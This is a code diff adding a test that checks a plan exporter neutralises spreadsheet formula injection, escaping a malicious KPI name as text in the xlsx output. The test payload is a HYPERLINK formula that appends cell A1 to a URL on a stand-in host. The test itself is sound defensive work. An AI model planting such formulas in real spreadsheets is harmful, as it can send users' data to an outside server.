@@ -106,3 +106,12 @@ def test_unreviewed_directions_are_marked_and_explained(moj_document: Path) -> N
         "依指標名稱推定，未經複核",
     )
     assert by_code["1-1"]["方向來源"] == "預設，未經複核"
+
+
+def test_xlsx_writes_text_that_excel_would_run_as_text(plan: Plan) -> None:
+    attack = '=HYPERLINK("http://example.com/?"&A1,"x")'
+    kpis = [plan.kpis[0].model_copy(update={"name": attack}), *plan.kpis[1:]]
+    workbook = load_workbook(BytesIO(export_plan(plan.model_copy(update={"kpis": kpis}), "xlsx")))
+    cell = workbook["關鍵績效指標"]["D2"]
+    assert (cell.value, cell.data_type) == ("'" + attack, "s")
+    assert workbook["關鍵績效指標"]["J2"].data_type == "n"  # target values stay numbers
